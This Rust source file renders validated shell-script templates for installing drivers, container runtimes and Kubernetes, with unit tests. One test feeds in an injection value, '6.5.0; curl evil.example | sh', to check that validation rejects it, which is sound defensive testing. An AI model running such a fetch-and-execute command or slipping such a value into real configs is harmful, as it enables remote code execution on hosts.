//! Script template engine
//!
//! Renders each planned install step into a self-contained shell script.
//! Scripts share a common header (strict mode, logging, bounded retry,
//! package install with backoff, idempotency stamps) and install exactly the
//! selected variant of a component. Everything interpolated into a script is
//! validated in `validate` first; templates are pure functions of the
//! validated spec and resolved commits, so they are testable without a
//! network.

pub mod validate;

use chrono::Utc;
use serde::Serialize;
use std::collections::BTreeMap;
use tera::{Context, Tera};

use crate::cluster::plan::InstallStep;
use crate::config::{EnvironmentSpec, SourceKind};
use crate::environment::ComponentKind;
use crate::errors::{HolodeckError, Result};
use crate::resolver::ResolvedRef;

use validate::*;

/// Commits resolved ahead of rendering, keyed by component.
pub type ResolvedComponents = BTreeMap<ComponentKind, ResolvedRef>;

/// Renders install steps and cluster configuration documents.
pub struct ScriptRenderer {
    tera: Tera,
}

impl ScriptRenderer {
    pub fn new() -> Result<Self> {
        let mut tera = Tera::default();
        tera.add_raw_templates(vec![
            ("common.sh", include_str!("templates/common.sh")),
            ("kernel.sh", include_str!("templates/kernel.sh")),
            ("nvdriver.sh", include_str!("templates/nvdriver.sh")),
            ("docker.sh", include_str!("templates/docker.sh")),
            ("containerd.sh", include_str!("templates/containerd.sh")),
            ("crio.sh", include_str!("templates/crio.sh")),
            (
                "container-toolkit.sh",
                include_str!("templates/container-toolkit.sh"),
            ),
            ("kubeadm.sh", include_str!("templates/kubeadm.sh")),
            ("kind.sh", include_str!("templates/kind.sh")),
            ("microk8s.sh", include_str!("templates/microk8s.sh")),
            ("kubeadm-init.sh", include_str!("templates/kubeadm-init.sh")),
            ("kubeadm-join.sh", include_str!("templates/kubeadm-join.sh")),
            (
                "kubeadm-config.yaml",
                include_str!("templates/kubeadm-config.yaml"),
            ),
            ("kind-config.yaml", include_str!("templates/kind-config.yaml")),
        ])
        .map_err(|e| HolodeckError::Template {
            name: "embedded templates".to_string(),
            source: e,
        })?;
        Ok(Self { tera })
    }

    fn render(&self, name: &str, context: &Context) -> Result<String> {
        self.tera
            .render(name, context)
            .map_err(|e| HolodeckError::Template {
                name: name.to_string(),
                source: e,
            })
    }

    /// Render the script for one planned step.
    pub fn render_step(
        &self,
        step: InstallStep,
        spec: &EnvironmentSpec,
        resolved: &ResolvedComponents,
    ) -> Result<String> {
        match step {
            InstallStep::Kernel => self.render_kernel(spec),
            InstallStep::NvDriver => self.render_driver(spec, resolved),
            InstallStep::Docker | InstallStep::Containerd | InstallStep::Crio => {
                self.render_runtime(step, spec, resolved)
            }
            InstallStep::ContainerToolkit => self.render_toolkit(spec, resolved),
            InstallStep::Kubeadm => self.render_kubernetes("kubeadm.sh", spec, resolved),
            InstallStep::Kind => self.render_kubernetes("kind.sh", spec, resolved),
            InstallStep::Microk8s => self.render_microk8s(spec),
        }
    }

    fn render_kernel(&self, spec: &EnvironmentSpec) -> Result<String> {
        let kernel = spec.kernel.as_ref().ok_or_else(|| {
            HolodeckError::ConfigInvalid("kernel step planned without a kernel block".to_string())
        })?;
        let mut context = Context::new();
        context.insert(
            "version",
            &checked("kernel.version", &kernel.version, &VERSION_RE)?,
        );
        self.render("kernel.sh", &context)
    }

    fn render_driver(
        &self,
        spec: &EnvironmentSpec,
        resolved: &ResolvedComponents,
    ) -> Result<String> {
        let driver = spec.nvidia_driver.as_ref().ok_or_else(|| {
            HolodeckError::ConfigInvalid("driver step planned without a driver block".to_string())
        })?;

        let mut context = Context::new();
        context.insert("source", driver.source.as_str());
        context.insert(
            "version",
            &checked_opt("nvidiaDriver.version", driver.version.as_deref(), &VERSION_RE)?,
        );
        context.insert(
            "url",
            &checked_opt("nvidiaDriver.url", driver.url.as_deref(), &URL_RE)?,
        );
        context.insert(
            "sha256",
            &checked_opt("nvidiaDriver.sha256", driver.sha256.as_deref(), &SHA256_RE)?,
        );
        context.insert(
            "repository",
            &checked("nvidiaDriver.repository", &driver.repository, &URL_RE)?,
        );
        if driver.source == SourceKind::Git {
            let commit = resolved.get(&ComponentKind::Driver).ok_or_else(|| {
                HolodeckError::ConfigInvalid(
                    "driver git source rendered without a resolved commit".to_string(),
                )
            })?;
            context.insert(
                "commit",
                &checked("nvidiaDriver commit", &commit.full, &COMMIT_RE)?,
            );
        }
        self.render("nvdriver.sh", &context)
    }

    fn render_runtime(
        &self,
        step: InstallStep,
        spec: &EnvironmentSpec,
        resolved: &ResolvedComponents,
    ) -> Result<String> {
        let runtime = spec.container_runtime.as_ref().ok_or_else(|| {
            HolodeckError::ConfigInvalid("runtime step planned without a runtime block".to_string())
        })?;

        let template = match step {
            InstallStep::Docker => "docker.sh",
            InstallStep::Containerd => "containerd.sh",
            InstallStep::Crio => "crio.sh",
            _ => unreachable!("render_runtime called for a non-runtime step"),
        };

        let mut context = Context::new();
        context.insert("source", runtime.source.as_str());
        context.insert(
            "version",
            &checked_opt(
                "containerRuntime.version",
                runtime.version.as_deref(),
                &VERSION_RE,
            )?,
        );
        if runtime.source.needs_resolution() {
            let repository = runtime
                .repository
                .clone()
                .unwrap_or_else(|| runtime_repository(&runtime.name).to_string());
            context.insert(
                "repository",
                &checked("containerRuntime.repository", &repository, &URL_RE)?,
            );
            let commit = resolved.get(&ComponentKind::Runtime).ok_or_else(|| {
                HolodeckError::ConfigInvalid(
                    "runtime source build rendered without a resolved commit".to_string(),
                )
            })?;
            context.insert(
                "commit",
                &checked("containerRuntime commit", &commit.full, &COMMIT_RE)?,
            );
        }
        self.render(template, &context)
    }

    fn render_toolkit(
        &self,
        spec: &EnvironmentSpec,
        resolved: &ResolvedComponents,
    ) -> Result<String> {
        let toolkit = spec.nvidia_container_toolkit.as_ref().ok_or_else(|| {
            HolodeckError::ConfigInvalid("toolkit step planned without a toolkit block".to_string())
        })?;

        let runtime_name = spec
            .container_runtime
            .as_ref()
            .map(|r| r.name.as_str())
            .filter(|n| !n.is_empty())
            .unwrap_or("containerd");

        let mut context = Context::new();
        context.insert("source", toolkit.source.as_str());
        context.insert("channel", &toolkit.channel);
        context.insert(
            "version",
            &checked_opt(
                "nvidiaContainerToolkit.version",
                toolkit.version.as_deref(),
                &VERSION_RE,
            )?,
        );
        context.insert(
            "repository",
            &checked(
                "nvidiaContainerToolkit.repository",
                &toolkit.repository,
                &URL_RE,
            )?,
        );
        context.insert("runtime", runtime_name);
        context.insert("enable_cdi", &toolkit.enable_cdi);

        let mut make_targets = Vec::new();
        for target in &toolkit.make_targets {
            make_targets.push(checked("makeTargets", target, &MAKE_TARGET_RE)?);
        }
        context.insert("make_targets", &make_targets);

        let mut build_env = BTreeMap::new();
        for (name, value) in &toolkit.env {
            build_env.insert(
                checked("env name", name, &ENV_NAME_RE)?,
                checked("env value", value, &ENV_VALUE_RE)?,
            );
        }
        context.insert("build_env", &build_env);

        let commit = resolved.get(&ComponentKind::Toolkit);
        if toolkit.source == SourceKind::Git {
            let commit = commit.ok_or_else(|| {
                HolodeckError::ConfigInvalid(
                    "toolkit git source rendered without a resolved commit".to_string(),
                )
            })?;
            context.insert(
                "commit",
                &checked("nvidiaContainerToolkit commit", &commit.full, &COMMIT_RE)?,
            );
        }
        if toolkit.source == SourceKind::Latest {
            let branch = toolkit.branch.as_deref().unwrap_or("main");
            context.insert(
                "branch",
                &checked("nvidiaContainerToolkit.branch", branch, &GIT_REF_RE)?,
            );
        }

        context.insert(
            "provenance_json",
            &provenance_json(
                toolkit.source,
                Some(&toolkit.repository),
                toolkit.git_ref.as_deref().or(toolkit.branch.as_deref()),
                commit.map(|c| c.short.as_str()),
                toolkit.version.as_deref(),
            )?,
        );

        self.render("container-toolkit.sh", &context)
    }

    fn render_kubernetes(
        &self,
        template: &str,
        spec: &EnvironmentSpec,
        resolved: &ResolvedComponents,
    ) -> Result<String> {
        let kubernetes = spec.kubernetes.as_ref().ok_or_else(|| {
            HolodeckError::ConfigInvalid(
                "kubernetes step planned without a kubernetes block".to_string(),
            )
        })?;

        let mut context = Context::new();
        context.insert("source", kubernetes.source.as_str());
        if let Some(version) =
            checked_opt("kubernetes.version", kubernetes.version.as_deref(), &VERSION_RE)?
        {
            context.insert("version_minor", &minor_stream(&version)?);
            context.insert("version_trimmed", version.trim_start_matches('v'));
            context.insert("version", &version);
        }
        context.insert(
            "repository",
            &checked("kubernetes.repository", &kubernetes.repository, &URL_RE)?,
        );
        match kubernetes.source {
            SourceKind::Git => {
                let commit = resolved.get(&ComponentKind::Kubernetes).ok_or_else(|| {
                    HolodeckError::ConfigInvalid(
                        "kubernetes git source rendered without a resolved commit".to_string(),
                    )
                })?;
                context.insert(
                    "commit",
                    &checked("kubernetes commit", &commit.full, &COMMIT_RE)?,
                );
            }
            SourceKind::Latest => {
                let branch = kubernetes.branch.as_deref().unwrap_or("master");
                context.insert("branch", &checked("kubernetes.branch", branch, &GIT_REF_RE)?);
            }
            _ => {}
        }
        self.render(template, &context)
    }

    fn render_microk8s(&self, spec: &EnvironmentSpec) -> Result<String> {
        let kubernetes = spec.kubernetes.as_ref().ok_or_else(|| {
            HolodeckError::ConfigInvalid(
                "microk8s step planned without a kubernetes block".to_string(),
            )
        })?;
        let mut context = Context::new();
        // Channel form "1.31/stable" carries a slash, so the ref pattern fits
        context.insert(
            "version",
            &checked_opt("kubernetes.version", kubernetes.version.as_deref(), &GIT_REF_RE)?,
        );
        self.render("microk8s.sh", &context)
    }

    /// Render the kubeadm ClusterConfiguration document uploaded to
    /// `/etc/kubernetes/kubeadm-config.yaml` before init.
    pub fn render_kubeadm_config(
        &self,
        spec: &EnvironmentSpec,
        endpoint: &str,
        node_ip: &str,
        ha: bool,
    ) -> Result<String> {
        let kubernetes = spec.kubernetes.as_ref().ok_or_else(|| {
            HolodeckError::ConfigInvalid("kubeadm config requires a kubernetes block".to_string())
        })?;

        let runtime_name = spec
            .container_runtime
            .as_ref()
            .map(|r| r.name.as_str())
            .filter(|n| !n.is_empty())
            .unwrap_or("containerd");

        let mut context = Context::new();
        context.insert("cluster_name", &spec.name);
        context.insert("cri_socket", cri_socket(runtime_name));
        context.insert("endpoint", &checked("endpoint", endpoint, &ENDPOINT_RE)?);
        context.insert("node_ip", &checked("node ip", node_ip, &ENDPOINT_RE)?);
        // Conditional template keys are always present, as null when unused
        let control_plane_endpoint = if ha {
            Some(checked("endpoint", endpoint, &ENDPOINT_RE)?)
        } else {
            None
        };
        context.insert("control_plane_endpoint", &control_plane_endpoint);
        let pinned_version = if kubernetes.source == SourceKind::Release {
            checked_opt("kubernetes.version", kubernetes.version.as_deref(), &VERSION_RE)?
        } else {
            None
        };
        context.insert("kubernetes_version", &pinned_version);
        context.insert(
            "pod_network_cidr",
            &checked("podNetworkCidr", &kubernetes.pod_network_cidr, &CIDR_RE)?,
        );
        context.insert(
            "feature_gates",
            &checked_opt(
                "featureGates",
                kubernetes.feature_gates.as_deref(),
                &FEATURE_GATES_RE,
            )?,
        );
        self.render("kubeadm-config.yaml", &context)
    }

    /// Render the KIND cluster config uploaded to `/etc/kubernetes/kind.yaml`.
    pub fn render_kind_config(&self, spec: &EnvironmentSpec) -> Result<String> {
        let kubernetes = spec.kubernetes.as_ref().ok_or_else(|| {
            HolodeckError::ConfigInvalid("kind config requires a kubernetes block".to_string())
        })?;
        let mut context = Context::new();
        let pinned_version = if kubernetes.source == SourceKind::Release {
            checked_opt("kubernetes.version", kubernetes.version.as_deref(), &VERSION_RE)?
        } else {
            None
        };
        context.insert("kubernetes_version", &pinned_version);
        self.render("kind-config.yaml", &context)
    }

    /// Render the `kubeadm init` script for the first control plane.
    pub fn render_init_script(&self, upload_certs: bool) -> Result<String> {
        let mut context = Context::new();
        context.insert("upload_certs", &upload_certs);
        self.render("kubeadm-init.sh", &context)
    }

    /// Render a join script. Control-plane joins additionally need the
    /// certificate key minted by `upload-certs`.
    pub fn render_join_script(
        &self,
        endpoint: &str,
        token: &str,
        ca_cert_hash: &str,
        certificate_key: Option<&str>,
        control_plane: bool,
    ) -> Result<String> {
        let mut context = Context::new();
        context.insert("endpoint", &checked("endpoint", endpoint, &ENDPOINT_RE)?);
        context.insert("token", &checked("token", token, &BOOTSTRAP_TOKEN_RE)?);
        context.insert(
            "ca_cert_hash",
            &checked("caCertHash", ca_cert_hash, &CA_CERT_HASH_RE)?,
        );
        context.insert("control_plane", &control_plane);
        context.insert(
            "role",
            if control_plane { "control-plane" } else { "worker" },
        );
        if control_plane {
            let key = certificate_key.ok_or_else(|| {
                HolodeckError::ConfigInvalid(
                    "control-plane join requires a certificate key".to_string(),
                )
            })?;
            context.insert(
                "certificate_key",
                &checked("certificateKey", key, &CERTIFICATE_KEY_RE)?,
            );
        }
        self.render("kubeadm-join.sh", &context)
    }
}

/// PROVENANCE.json document written next to the toolkit config on the host.
#[derive(Serialize)]
struct ProvenanceDoc<'a> {
    source: &'a str,
    #[serde(skip_serializing_if = "Option::is_none")]
    repository: Option<&'a str>,
    #[serde(rename = "ref", skip_serializing_if = "Option::is_none")]
    reference: Option<&'a str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    commit: Option<&'a str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    version: Option<&'a str>,
    timestamp: String,
}

/// Serialise the provenance record stamped onto the host.
pub fn provenance_json(
    source: SourceKind,
    repository: Option<&str>,
    reference: Option<&str>,
    commit: Option<&str>,
    version: Option<&str>,
) -> Result<String> {
    let doc = ProvenanceDoc {
        source: source.as_str(),
        repository,
        reference,
        commit,
        version,
        timestamp: Utc::now().format("%Y-%m-%dT%H:%M:%SZ").to_string(),
    };
    serde_json::to_string_pretty(&doc).map_err(|e| {
        HolodeckError::ConfigInvalid(format!("failed to serialise provenance: {e}"))
    })
}

/// "v1.31.1" -> "v1.31", the pkgs.k8s.io repository stream.
fn minor_stream(version: &str) -> Result<String> {
    let trimmed = version.trim_start_matches('v');
    let mut parts = trimmed.split('.');
    match (parts.next(), parts.next()) {
        (Some(major), Some(minor))
            if !major.is_empty() && major.chars().all(|c| c.is_ascii_digit())
                && !minor.is_empty() && minor.chars().all(|c| c.is_ascii_digit()) =>
        {
            Ok(format!("v{major}.{minor}"))
        }
        _ => Err(HolodeckError::ConfigInvalid(format!(
            "kubernetes version {version:?} is not of the form vMAJOR.MINOR.PATCH"
        ))),
    }
}

fn cri_socket(runtime: &str) -> &'static str {
    match runtime {
        "docker" => "unix:///var/run/cri-dockerd.sock",
        "crio" => "unix:///var/run/crio/crio.sock",
        _ => "unix:///run/containerd/containerd.sock",
    }
}

/// Upstream repository for a runtime built from source, when the spec does
/// not name one.
pub(crate) fn runtime_repository(name: &str) -> &'static str {
    match name {
        "docker" => "https://github.com/moby/moby",
        "crio" => "https://github.com/cri-o/cri-o",
        _ => "https://github.com/containerd/containerd",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn spec(yaml: &str) -> EnvironmentSpec {
        serde_yaml::from_str(yaml).unwrap()
    }

    fn resolved(component: ComponentKind, full: &str) -> ResolvedComponents {
        let mut map = ResolvedComponents::new();
        map.insert(component, ResolvedRef::new(full.to_string()));
        map
    }

    #[test]
    fn test_every_step_script_carries_the_common_header() {
        let renderer = ScriptRenderer::new().unwrap();
        let env = spec(
            r#"
name: hdr
instance:
  region: us-west-2
kernel:
  version: 6.5.0-1018-aws
containerRuntime:
  install: true
  name: containerd
"#,
        );
        for step in [InstallStep::Kernel, InstallStep::Containerd] {
            let script = renderer
                .render_step(step, &env, &ResolvedComponents::new())
                .unwrap();
            assert!(script.contains("set -euo pipefail"), "{step:?} lost header");
            assert!(script.contains("mark_installed"), "{step:?} lost stamp");
        }
    }

    #[test]
    fn test_driver_runfile_variant_downloads_and_checks() {
        let renderer = ScriptRenderer::new().unwrap();
        let env = spec(&format!(
            r#"
name: runfile
instance:
  region: us-west-2
nvidiaDriver:
  install: true
  source: runfile
  url: https://us.download.nvidia.com/tesla/550.54.15/NVIDIA-Linux-x86_64-550.54.15.run
  sha256: {}
"#,
            "ab".repeat(32)
        ));
        let script = renderer
            .render_step(InstallStep::NvDriver, &env, &ResolvedComponents::new())
            .unwrap();
        assert!(script.contains("NVIDIA-Linux-x86_64-550.54.15.run"));
        assert!(script.contains("sha256sum --check"));
        assert!(!script.contains("git clone"));
    }

    #[test]
    fn test_driver_git_variant_pins_resolved_commit() {
        let renderer = ScriptRenderer::new().unwrap();
        let env = spec(
            r#"
name: gitdrv
instance:
  region: us-west-2
nvidiaDriver:
  install: true
  source: git
  ref: "550.54.15"
"#,
        );
        let full = "abc123def456789012345678901234567890abcd";
        let script = renderer
            .render_step(InstallStep::NvDriver, &env, &resolved(ComponentKind::Driver, full))
            .unwrap();
        assert!(script.contains(&format!("git checkout \"{full}\"")));
        assert!(script.contains("open-gpu-kernel-modules"));
    }

    #[test]
    fn test_injection_attempt_blocks_rendering() {
        let renderer = ScriptRenderer::new().unwrap();
        let env = spec(
            r#"
name: evil
instance:
  region: us-west-2
kernel:
  version: "6.5.0; curl evil.example | sh"
"#,
        );
        let err = renderer
            .render_step(InstallStep::Kernel, &env, &ResolvedComponents::new())
            .unwrap_err();
        assert!(matches!(err, HolodeckError::ConfigInvalid(_)));
    }

    #[test]
    fn test_toolkit_latest_tracks_branch_with_build_knobs() {
        let renderer = ScriptRenderer::new().unwrap();
        let env = spec(
            r#"
name: tklatest
instance:
  region: us-west-2
containerRuntime:
  install: true
  name: containerd
nvidiaContainerToolkit:
  install: true
  source: latest
  branch: release-1.17
  makeTargets: [binaries, install]
  env:
    WITH_LIBNVIDIA_CONTAINER: "1"
  enableCdi: true
"#,
        );
        let script = renderer
            .render_step(
                InstallStep::ContainerToolkit,
                &env,
                &resolved(ComponentKind::Toolkit, "abc123def456789012345678901234567890abcd"),
            )
            .unwrap();
        assert!(script.contains("git checkout \"release-1.17\""));
        assert!(script.contains("make binaries install"));
        assert!(script.contains("export WITH_LIBNVIDIA_CONTAINER=\"1\""));
        assert!(script.contains("nvidia-ctk cdi generate"));
        assert!(script.contains("PROVENANCE.json"));
        assert!(script.contains("bin_dir"));
    }

    #[test]
    fn test_kubeadm_release_uses_minor_stream() {
        let renderer = ScriptRenderer::new().unwrap();
        let env = spec(
            r#"
name: rel
instance:
  region: us-west-2
kubernetes:
  install: true
  source: release
  version: v1.31.1
"#,
        );
        let script = renderer
            .render_step(InstallStep::Kubeadm, &env, &ResolvedComponents::new())
            .unwrap();
        assert!(script.contains("core:/stable:/v1.31/deb"));
        assert!(script.contains("grep \"1.31.1\""));
        assert!(script.contains("apt-mark hold"));
    }

    #[test]
    fn test_minor_stream_parsing() {
        assert_eq!(minor_stream("v1.31.1").unwrap(), "v1.31");
        assert_eq!(minor_stream("1.29.0").unwrap(), "v1.29");
        assert!(minor_stream("latest").is_err());
    }

    #[test]
    fn test_kubeadm_config_ha_toggles_control_plane_endpoint() {
        let renderer = ScriptRenderer::new().unwrap();
        let env = spec(
            r#"
name: hacfg
cluster:
  region: us-west-2
  controlPlane:
    count: 3
kubernetes:
  install: true
  source: release
  version: v1.31.1
  featureGates: DevicePlugins=true
"#,
        );
        let with_ha = renderer
            .render_kubeadm_config(&env, "lb.example", "10.0.0.1", true)
            .unwrap();
        assert!(with_ha.contains("controlPlaneEndpoint: \"lb.example:6443\""));
        assert!(with_ha.contains("feature-gates: \"DevicePlugins=true\""));
        assert!(with_ha.contains("podSubnet: \"10.244.0.0/16\""));

        let without_ha = renderer
            .render_kubeadm_config(&env, "10.0.0.1", "10.0.0.1", false)
            .unwrap();
        assert!(!without_ha.contains("controlPlaneEndpoint"));
    }

    #[test]
    fn test_join_script_variants() {
        let renderer = ScriptRenderer::new().unwrap();
        let token = "abcdef.0123456789abcdef";
        let hash = format!("sha256:{}", "a".repeat(64));
        let key = "0f".repeat(32);

        let cp = renderer
            .render_join_script("10.0.0.1", token, &hash, Some(&key), true)
            .unwrap();
        assert!(cp.contains("--control-plane"));
        assert!(cp.contains("--certificate-key"));

        let worker = renderer
            .render_join_script("10.0.0.1", token, &hash, None, false)
            .unwrap();
        assert!(worker.contains("--token"));
        assert!(!worker.contains("--control-plane"));

        // Missing certificate key for a control-plane join is an error
        assert!(renderer
            .render_join_script("10.0.0.1", token, &hash, None, true)
            .is_err());

        // A malformed token never reaches the script
        assert!(renderer
            .render_join_script("10.0.0.1", "not-a-token", &hash, None, false)
            .is_err());
    }

    #[test]
    fn test_provenance_json_shape() {
        let json = provenance_json(
            SourceKind::Git,
            Some("https://github.com/NVIDIA/nvidia-container-toolkit"),
            Some("v1.17.3"),
            Some("abc123de"),
            None,
        )
        .unwrap();
        let value: serde_json::Value = serde_json::from_str(&json).unwrap();
        assert_eq!(value["source"], "git");
        assert_eq!(value["ref"], "v1.17.3");
        assert_eq!(value["commit"], "abc123de");
        assert!(value["timestamp"].as_str().unwrap().ends_with('Z'));
    }
}
